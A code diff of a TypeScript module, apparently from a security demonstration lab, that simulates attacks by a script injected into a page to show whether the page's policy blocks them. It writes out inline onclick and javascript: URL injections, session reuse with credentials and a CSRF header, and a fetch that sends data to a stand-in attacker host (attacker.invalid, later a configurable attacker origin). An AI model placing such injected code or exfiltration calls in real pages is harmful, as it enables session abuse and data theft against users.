@@ -1,12 +1,13 @@
 /**
- * Attacks that run in this very page, as a script does that was injected into it: each says what it has heard, and the BFF assesss.
+ * Attacks that run in this very page, as a script does that was injected into it: each says what it has heard, and the BFF assesses it.
  */
 import { csrfHeader, paths } from '@tokenless/bff/contract';
 import { bffOrigin } from '../../http/bff-origin.ts';
 import { readableByScript } from '../../session/what-scripts-see.tsx';
+import type { Attempt } from './contract.ts';
 
-/** By the attack's id; what is given is the attempt's. */
-export const pageAttacks: Readonly<Record<string, (attempt: string) => Promise<readonly string[]>>> = {
+/** By the attack's id. */
+export const pageAttacks: Readonly<Record<string, (attempt: Attempt) => Promise<readonly string[]>>> = {
   'read-storage': readStorage,
   'injected-script': injectScript,
   'script-in-the-page': useTheSession,
@@ -18,7 +19,7 @@ async function readStorage(): Promise<readonly string[]> {
 }
 
 /** Each of these would run, or load, were it not for the page's policy. */
-async function injectScript(attempt: string): Promise<readonly string[]> {
+async function injectScript({ attacker = '' }: Attempt): Promise<readonly string[]> {
   const ran: string[] = [];
   const run = (event: Event) => ran.push((event as CustomEvent<string>).detail);
   document.addEventListener('lab-ran', run);
@@ -35,7 +36,7 @@ async function injectScript(attempt: string): Promise<readonly string[]> {
       button.setAttribute('onclick', code('ran: an event attribute'));
       button.click();
     },
-    async () => {
+    () => {
       const link = document.createElement('a');
       link.setAttribute('href', `javascript:${code('ran: a javascript: address')}`);
       document.body.append(link);
@@ -43,17 +44,23 @@ async function injectScript(attempt: string): Promise<readonly string[]> {
       link.remove();
     },
     async () => {
-      await fetch(`https://attacker.invalid/?attempt=${attempt}`, { mode: 'no-cors' });
-      ran.push('sent away');
+      await fetch(`${attacker}/attacker/empty`, { mode: 'no-cors' });
+      ran.push('sent away: to the attacker’s server');
     },
   ]);
+  await linksFollowed();
   document.removeEventListener('lab-ran', run);
   return ran;
 }
 
+/** A link of code runs when the browser comes to it, not at once. */
+function linksFollowed(): Promise<void> {
+  return new Promise((resolve) => setTimeout(resolve, 100));
+}
+
 /** What is left for an injected script: to ask as the page does, while the page is open. */
-async function useTheSession(attempt: string): Promise<readonly string[]> {
-  const answer = await fetch(`${bffOrigin()}${paths.sessions}?attempt=${attempt}.script`, {
+async function useTheSession({ id }: Attempt): Promise<readonly string[]> {
+  const answer = await fetch(`${bffOrigin()}${paths.sessions}?attempt=${id}.script`, {
     credentials: 'include',
     headers: { [csrfHeader.name]: csrfHeader.value },
   });
